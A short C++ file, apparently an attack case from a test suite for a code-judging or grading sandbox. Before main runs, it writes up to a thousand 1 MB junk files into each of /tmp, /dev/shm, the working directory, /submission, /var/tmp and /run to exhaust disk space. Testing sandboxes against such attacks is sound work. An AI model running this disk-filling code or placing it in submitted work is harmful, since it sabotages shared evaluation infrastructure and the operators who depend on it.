#include "attack.hpp"

#include <fstream>
#include <string>
#include <vector>

namespace {
const attack::BeforeMain now(
    [] {
      const std::vector<char> block(1 << 20, 'x');
      for (const std::string folder : {"/tmp", "/dev/shm", ".", "/submission", "/var/tmp", "/run"}) {
        for (int number = 0; number < 1000; ++number) {
          std::ofstream file(folder + "/fill-" + std::to_string(number), std::ios::binary);
          if (!file.write(block.data(), 1 << 20).flush()) {
            break;
          }
        }
      }
    },
    attack::one_test);
}  // namespace
